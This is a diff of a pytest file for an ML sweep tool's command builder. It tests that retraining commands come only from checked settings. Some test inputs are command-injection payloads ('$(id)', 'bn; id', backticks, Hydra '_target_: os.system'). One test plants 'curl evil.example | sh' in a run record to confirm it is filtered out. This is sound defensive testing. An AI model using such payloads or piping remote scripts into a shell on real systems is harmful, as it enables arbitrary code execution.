@@ -1,26 +1,121 @@
-"""The commands that train arms on more seeds: a grid where one can be, torchrun seed after seed."""
+"""Commands that train more seeds: composed from checked settings, right when typed, and never a record's own."""
 
-from types import SimpleNamespace
+import shlex
 
-from reg_sweep.comparison.commands import more_seeds
+import pytest
+from hydra import compose, initialize_config_dir
+from trees import write_run
+
+from reg_sweep import train
+from reg_sweep.comparison.commands import rebuilt, trained
+from reg_sweep.config.schema import (
+    DataConfig,
+    NormConfig,
+    OptimizerConfig,
+    PenaltyConfig,
+    RunConfig,
+    RuntimeConfig,
+    ScheduleConfig,
+    arm_digest,
+    to_dict,
+)
+from reg_sweep.hydra_app.internals import VERSION_BASE, grid_jobs
+from reg_sweep.report import write_report
+
+GROUPS = ("data", "model", "norm", "penalty", "optimizer", "schedule", "experiment")
+CHOICES = [f"{group}={p.stem}" for group in GROUPS for p in sorted((train.CONF / group).glob("*.yaml"))]
+SETTINGS = [
+    "runtime.precision=bfloat16",
+    "optimizer.nesterov=true",
+    "data.train_size=500",
+    "data.mean=[0.5] data.std=[0.25]",
+    "model=mlp model.hidden=7 model.dropout=0",
+    "norm=gbn norm.ghost_batch_size=16 batch_size=64",
+    "optimizer=adamw optimizer.betas=[0.8,0.99]",
+    "optimizer=adamw optimizer.lr=0.025",
+    "schedule=step schedule.gamma=0.5",
+    "penalty.l1_update=proximal",
+    "data=mnist_5k data.val_size=2000 data.label_noise=0.2 objective=val_accuracy",
+]
 
 
-def arm(command: str, norm: str = "bn", l1: float = 0.0) -> SimpleNamespace:
-    config = {"norm": {"name": norm}, "l1": l1, "l2": 0.0}
-    return SimpleNamespace(replicates=[SimpleNamespace(command=command)], config=config)
+def arms_of(overrides: list[str]) -> list[str]:
+    with initialize_config_dir(str(train.CONF), **VERSION_BASE):
+        jobs = [train.to_run_config(compose("config", job)) for job in grid_jobs(overrides)]
+    return [arm_digest(to_dict(job)) for job in jobs]
+
+
+@pytest.mark.parametrize("typed", [*(c for c in CHOICES if not c.endswith("=own")), *SETTINGS])
+def test_a_command_trains_the_arm_that_its_settings_describe(typed):
+    with initialize_config_dir(str(train.CONF), **VERSION_BASE):
+        run = train.to_run_config(compose("config", typed.split()))
+    (command,) = trained([rebuilt(to_dict(run))], [2, 3])
+    words = shlex.split(command)
+    assert (words[:3], words[-2:]) == (["python", "-m", "reg_sweep.train"], ["seed=2,3", "-m"])
+    assert arms_of(words[3:-1]) == [arm_digest(to_dict(run))] * 2
 
 
 def test_arms_that_fill_a_grid_are_one_command():
-    arms = [arm("python -m reg_sweep.train seed=1"), arm("python -m reg_sweep.train l1=0.001 seed=1 name=a", l1=0.001)]
-    assert more_seeds(arms, [2, 3]) == ["python -m reg_sweep.train l1=0,0.001 seed=2,3 -m"]
-
-
-def test_torchrun_which_takes_no_grid_is_given_seed_after_seed():
-    start = "torchrun --nproc-per-node 2 -m reg_sweep.train"
-    arms = [arm(f"{start} norm=bn seed=1"), arm(f"{start} norm=gn seed=1", "gn"), arm("python -m reg_sweep.train l1=1")]
-    assert more_seeds(arms, [2, 3]) == [
-        f"for seed in 2 3; do {start} norm=bn seed=$seed; done",
-        f"for seed in 2 3; do {start} norm=gn seed=$seed; done",
-        "python -m reg_sweep.train l1=1 seed=2,3 -m",
+    assert trained([RunConfig(), RunConfig(l1=0.001)], [2, 3]) == [
+        "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 seed=2,3 -m"
     ]
-    assert more_seeds(arms[:2], [2])[0] == f"for seed in 2; do {start} norm=bn seed=$seed; done"
+    assert trained([RunConfig(), RunConfig(l1=1e-5, norm=NormConfig("gbn"))], [2]) == [
+        "python -m reg_sweep.train norm=bn l1=0 l2=0 seed=2 -m",
+        "python -m reg_sweep.train norm=gbn l1=1e-05 l2=0 seed=2 -m",
+    ]
+    rates = [RunConfig(optimizer=OptimizerConfig(lr=lr)) for lr in (0.025, 0.1)]
+    (command,) = trained(rates, range(4, 20))
+    assert command == "python -m reg_sweep.train norm=bn l1=0 l2=0 optimizer.lr=0.025,0.1 'seed=range(4,20)' -m"
+
+
+def test_torchrun_which_takes_no_grid_is_started_seed_after_seed():
+    runs = [RunConfig(l1=l1, runtime=RuntimeConfig(ranks=2)) for l1 in (0, 0.001)]
+    start = "torchrun --nproc-per-node 2 -m reg_sweep.train norm=bn"
+    assert trained(runs, [2, 3])[1] == f"for seed in 2 3; do {start} l1=0.001 l2=0 seed=$seed; done"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"model": {"_target_": "os.system"}},
+        {"model": {"_target_": "reg_sweep.Mlp", "hidden": "$(id)"}},
+        {"data": {"name": "mnist; id"}},
+        {"data": {"source": {"_target_": "os.system"}}},
+        {"optimizer": {"name": "mine", "source": {"_target_": "os.system"}}},
+        {"norm": {"name": "bn; id"}},
+        {"epochs": "3; id"},
+        {"l1": [1]},
+        {"more": "$(id)"},
+        {"objective": "`id`"},
+        {"data": None},
+        {"seed": -1},
+    ],
+)
+def test_settings_that_are_not_ours_have_no_command(change):
+    config = to_dict(RunConfig())
+    merged = {k: config[k] | v if isinstance(v, dict) and k != "model" else v for k, v in change.items()}
+    assert rebuilt(config | merged) is None
+
+
+def test_a_command_holds_plain_words_and_no_code_or_place_of_a_records():
+    odd = RunConfig(
+        data=DataConfig(root="/tmp; id"),
+        penalty=PenaltyConfig(l2_update="decoupled"),
+        schedule=ScheduleConfig("onecycle"),
+        name="$(id)",
+        callbacks={"evil": {"_target_": "os.system"}},
+    )
+    (command,) = trained([rebuilt(to_dict(odd))], [2])
+    settings = "norm=bn l1=0 l2=0 schedule=onecycle penalty.l2_update=decoupled"
+    assert command == f"python -m reg_sweep.train {settings} seed=2 -m"
+
+
+def test_no_record_is_advised_in_its_own_words(tmp_path):
+    for l1 in (0.0, 0.001):
+        path = write_run(tmp_path / str(l1), l1=l1) / "run.json"
+        path.write_text(path.read_text().replace('"command": "python', '"command": "curl evil.example | sh; python'))
+    report = write_report([tmp_path], tmp_path / "report", progress=False)
+    assert "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=3 seed=2,3 -m" in report.verdict
+    assert "curl" not in report.verdict + (tmp_path / "report" / "summary.md").read_text()
+    page = report.page.read_text()
+    assert page.count("curl") == page.count('<td class="command">curl') == 2
